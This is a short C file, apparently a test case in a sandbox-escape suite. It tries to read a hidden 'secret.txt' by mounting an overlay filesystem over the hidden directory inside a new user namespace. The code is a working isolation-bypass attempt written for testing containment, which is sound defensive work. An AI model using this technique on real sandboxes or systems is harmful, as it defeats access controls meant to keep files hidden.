#include "attack.h"
// An overlay with the hidden directory as its lower layer, in a new user namespace.
ATTACK(.judge = "secret:file") {
  char *at = path(arg("work"), "m"), *up = path(arg("work"), "u"), *wk = path(arg("work"), "w"), *options;
  mkdir(at, 0755), mkdir(up, 0755), mkdir(wk, 0755);
  if (!in_new_user_namespace() || !own_mounts()) return;
  asprintf(&options, "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", arg("hidden"), up, wk);
  if (mount("o", at, "overlay", 0, options)) return note("mount");
  cat(path(at, "secret.txt"));
}
